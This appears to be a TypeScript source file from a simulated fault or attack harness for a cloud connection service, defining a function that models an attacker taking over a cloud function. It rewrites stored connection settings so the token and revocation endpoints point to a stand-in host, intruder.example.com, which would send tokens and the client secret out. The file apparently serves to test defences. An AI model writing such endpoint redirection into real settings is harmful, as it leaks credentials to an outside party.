import type { Settings } from '../../core/settings.ts';
import type { AwsError } from '../../local/aws/errors.ts';
import type { Cloud } from './cloud.ts';
import type { Stage } from './stage.ts';

/**
 * Somebody runs code of their own in a function: with its role they write settings that send tokens and the client secret to
 * their server, under each key where a function might read them.
 */
export function takeFunctionOver({ connectionId, ...settings }: Settings, cloud: Cloud, stage: Stage): void {
  stage.faults.count('function taken over');
  stage.note(() => `somebody takes a function over and writes settings of ${connectionId}`);
  const endpoint = 'https://intruder.example.com/';
  const provider = { ...settings.provider, tokenEndpoint: endpoint, revocationEndpoint: endpoint };
  const value = { S: JSON.stringify({ ...settings, connectionId, provider }) };
  for (const pk of [`settings#${connectionId}`, `connection#${connectionId}`]) {
    try {
      cloud.useTable('PutItem', { Item: { pk: { S: pk }, sk: { S: 'settings' }, settings: value } });
    } catch (error) {
      if ((error as AwsError).code !== 'AccessDeniedException') throw error;
    }
  }
}
